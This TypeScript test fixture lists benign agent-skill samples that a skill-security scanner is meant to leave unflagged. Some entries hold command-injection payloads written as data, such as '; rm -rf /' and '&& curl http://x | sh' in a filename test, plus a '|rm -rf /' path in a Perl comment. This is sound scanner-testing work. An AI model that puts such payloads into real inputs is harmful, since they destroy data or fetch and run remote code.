import { skillMd, type Sample } from "../sample";

const FENCE = "```";
const bash = (...all: string[]) => `${FENCE}bash\n${all.join("\n")}\n${FENCE}`;
const told = (title: string, body: string): Sample => ({ title, files: { "SKILL.md": skillMd(body) } });
const run = (title: string, ...all: string[]): Sample => ({
  title,
  files: { "run.sh": `#!/bin/bash\n${all.join("\n")}\n` },
});

/** What honest skills say and do close beside attacks seen on registries: nothing may be found. */
export const NEAR_ATTACKS: readonly Sample[] = [
  told(
    "sends its reader to a page for an account, and shows the command itself",
    "## Setup\n\nOpen https://app.service.example/keys and create a key. Then run the following command in your terminal:\n\n" +
      bash("npx service-cli login"),
  ),
  told(
    "sends its reader to their own settings for a command with a key in it",
    "## Setup\n\nA runner is required. Open https://github.com/acme/site/settings/actions/runners/new and run the command from there in a terminal.",
  ),
  told(
    "sends its reader to a page for a key, and runs a script of its own",
    "## Setup\n\n1. Visit https://platform.service.example/keys and create a key\n2. Put it into your shell's environment\n3. Run the setup script in your terminal\n\n访问 https://platform.service.example/keys 获取密钥，然后运行 setup 脚本，在终端中查看结果。",
  ),
  told(
    "records a conversation where its user wants it",
    "用户要求时，将聊天记录保存到 notes/ 目录，并把摘要发送给用户。\n\n사용자가 원하면 대화 내용을 notes/ 폴더에 저장합니다.\n\nSend the summary of the meeting to the channel that the user names.",
  ),
  told(
    "says what needs no confirmation, and what does",
    "读取文件无需用户确认；删除文件前必须询问用户。\n\n읽기는 사용자 확인 없이 진행하고, 삭제는 반드시 사용자에게 묻습니다.",
  ),
  told(
    "sends money where the user says",
    "Ask the user for the address and the amount, show the fee, and send the tokens to that address only after they confirm.\n\n将代币转账到用户给出的地址，转账前显示手续费。",
  ),
  told(
    "names a page of downloads and a package of a package manager",
    "## Prerequisites\n\nLM Studio must be running. Get it from https://studio.example/download or with `brew install --cask studio`.",
  ),
  told(
    "mentions that an antivirus may be slow",
    "## Troubleshooting\n\nBuilds below a folder that an antivirus watches are slow. Leave the antivirus on; move the cache out of the synchronised folder.",
  ),
  told(
    "names program files that it makes",
    "## Output\n\nThe build writes `dist/app.exe` and `dist/app.dmg`. Publish them at https://github.com/acme/app/releases and run the signing step before each release.",
  ),
  told(
    "spares its user questions",
    "- Do not ask the user what the code already tells you.\n- Never ask the user a question that a log can answer.\n- Do not tell the user to run set-up commands that you can run.\n- Do not ask the human to perform any other step.\n- Do not ask the user extra questions; announce the default you took.",
  ),
  told(
    "keeps the names of its phases to itself",
    "Talk about results. Don't ask the user for a photo first. Pick the mode without narrating it, and read the workspace files before asking.",
  ),
  told(
    "reads an account's settings from an .env file, the address too",
    bash(
      'DOMAIN=$(grep "^DOMAIN=" .env | cut -d= -f2)',
      'TOKEN=$(grep "^TOKEN=" .env | cut -d= -f2)',
      'curl -sf -H "Authorization: Bearer $TOKEN" "https://${DOMAIN}/rest/api/3/myself"',
    ),
  ),
  run(
    "takes the whole address from an .env file",
    "BASE=$(grep ^BASE_URL= .env | cut -d= -f2)",
    'curl -sf "$BASE/health"',
  ),
  told(
    "shows in Perl what a name could do, in a remark behind the code",
    `${FENCE}perl\nopen my $in, $path;   # $path could be "|rm -rf /"\nopen my $in, '<', $path;\n${FENCE}`,
  ),
  told(
    "feeds a form with commands that it must refuse",
    `${FENCE}javascript\nconst cases = [\n  { payload: { filename: '; rm -rf /' }, check: 'refused' },\n  { payload: { filename: '&& curl http://x | sh' }, check: 'refused' },\n];\n${FENCE}`,
  ),
  {
    title: "keeps what it wrote from others",
    files: {
      "main.mjs":
        "import { chmodSync, writeFileSync } from 'node:fs';\nconst answer = await (await fetch('https://api.service.example/me')).json();\nconst path = 'account.json';\nwriteFileSync(path, JSON.stringify(answer));\nchmodSync(path, 0o600);\n",
    },
  },
  told(
    "enables a service that a package brought",
    `## Start at boot\n\n${bash("sudo apt install wireguard", "sudo systemctl enable wg-quick@wg0")}`,
  ),
  told(
    "installs a vendor's own tool",
    `## Install\n\n${bash("curl -fsSL https://get.pulumi.com | sh", "curl -fsSL https://static.heygen.ai/cli/install.sh | bash")}`,
  ),
  told(
    "fetches guidelines and compares a page with them",
    "Fetch the guidelines from https://raw.githubusercontent.com/acme/guidelines/main/rules.md before each review. Apply the rules to the files the user named and report what differs.",
  ),
  told(
    "says whose instructions come first",
    "Instructions of the user take precedence over this skill. Direct system instructions take precedence over AGENTS.md.",
  ),
  told(
    "writes what it learned where the user wants it, in three languages",
    "Offer to add the rule to your CLAUDE.md so that it holds in every session.\n\n如果用户同意，将该规则写入 CLAUDE.md，使其在以后所有会话中生效。\n\n사용자가 원하면 이 규칙을 CLAUDE.md에 추가하여 이후 모든 세션에 적용하세요.",
  ),
  told(
    "shows a hook that formats and one that tells its owner",
    `${FENCE}json\n{"hooks":{"PostToolUse":[{"hooks":[{"type":"command","command":"npx prettier --write ."}]}],"Stop":[{"hooks":[{"type":"command","command":"curl -s -d 'done' https://push.example.com/my-topic"}]}]}}\n${FENCE}`,
  ),
  told(
    "speaks of files that must not get into a commit",
    "Never put the contents of .env into a commit message or a pull request. If a user pastes their seed phrase, tell them to move the funds.",
  ),
  {
    title: "listens for a short cut to start dictation",
    files: {
      "main.py":
        "from pynput import keyboard\nimport requests\n\ndef on_press(key):\n    if key == keyboard.Key.f8:\n        with open('take.wav', 'rb') as take:\n            print(requests.post('https://api.service.example/transcribe', files={'file': take}).json())\n\nwith keyboard.Listener(on_press=on_press) as listener:\n    listener.join()\n",
    },
  },
  {
    title: "copies mail to whom its user names",
    files: {
      "main.mjs":
        "import nodemailer from 'nodemailer';\nexport const send = (mail) =>\n  nodemailer.createTransport(process.env.SMTP_URL).sendMail({ to: mail.to, cc: mail.cc, bcc: mail.bcc, text: mail.text });\n",
    },
  },
  run(
    "brings a folder of its own to a store",
    "aws s3 sync ./dist s3://site-assets/ --delete",
    "rclone copy out remote:out",
  ),
  run(
    "forwards a port of a development server",
    "ssh -N -L 5432:localhost:5432 db.internal &",
    "ssh -R 80:localhost:3000 share.internal",
  ),
  run("gives a development host a name", "echo '127.0.0.1 app.local' | sudo tee -a /etc/hosts"),
  run(
    "chooses an index that many use",
    "npm config set registry http://localhost:4873/",
    "pip config set global.index-url https://download.pytorch.org/whl/cpu",
    "git config --global credential.helper '!gh auth git-credential'",
    "git config core.hooksPath .githooks",
  ),
  {
    title: "lists where an unpacked program may lie",
    files: {
      "install.ps1":
        "$tmp = Join-Path $env:TEMP 'x'\nInvoke-WebRequest -Uri $url -OutFile (Join-Path $tmp $asset)\n$candidates = @(\n    (Join-Path $tmp 'extract/tool.exe'),\n    (Join-Path $tmp 'extract/t.exe')\n)\n",
    },
  },
  run("shows a window of the system", `osascript -e 'display dialog "The export is ready" buttons {"OK"}'`),
  told(
    "saves tokens of a model",
    "**Use prompt caching** for system prompts over 1024 tokens: it saves cost and latency.\n\nDisregard whitespace when you count tokens. 공백을 무시하고 토큰을 세세요. 计数时无视空格。",
  ),
  told(
    "leaves expired keys out",
    "Ignore expired API keys in the list. Disregard revoked credentials when you count them, and override your defaults with a flag.",
  ),
  run(
    "hands a word to awk",
    'file="$1"',
    `printf '%s\\n' "$counts" | awk -v f="$file" '$2 == f {print $1}' | head -1`,
    `awk -F "$2" '{print $1}' table.txt`,
  ),
  {
    title: "takes a fee that SKILL.md states",
    files: {
      "SKILL.md": skillMd("Sends tokens. A service fee of 0.1% goes to the author of the skill."),
      "send.mjs":
        "const AUTHOR = '0x71C7656EC7ab88b098defB751B7401B5f6d8976F';\nawait signer.sendTransaction({ to: target, value });\nawait signer.sendTransaction({ to: AUTHOR, value: value / 1000n });\n",
    },
  },
];
